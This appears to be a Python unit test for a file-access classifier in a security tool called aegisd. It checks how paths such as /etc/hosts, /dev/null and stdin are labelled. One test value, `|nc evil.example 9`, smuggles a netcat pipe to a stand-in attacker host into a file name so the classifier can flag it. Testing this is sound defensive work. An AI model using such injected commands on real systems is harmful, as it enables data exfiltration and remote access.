"""A file is one unless every process has it; a name that is not known is none."""

from aegisd.core.program.reach import Access, Reach, file
from aegisd.core.program.word import UNKNOWN
from tests.table import each


@each(
    ("access", "text", "found"),
    [
        ("read", "/etc/hosts", [Reach("read", "/etc/hosts")]),
        ("write", "-", []),
        ("write", "/dev/null", []),
        ("load", "-", [Reach("problem", "input")]),
        ("load", "/dev/stdin", [Reach("problem", "input")]),
        ("write", "|nc evil.example 9", [Reach("problem", "code")]),
        ("delete", f"{UNKNOWN}/x", [Reach("problem", "unknown")]),
    ],
)
def test_a_file_is_named_or_refused(access: Access, text: str, found: list[Reach]) -> None:
    assert list(file(access, text)) == found
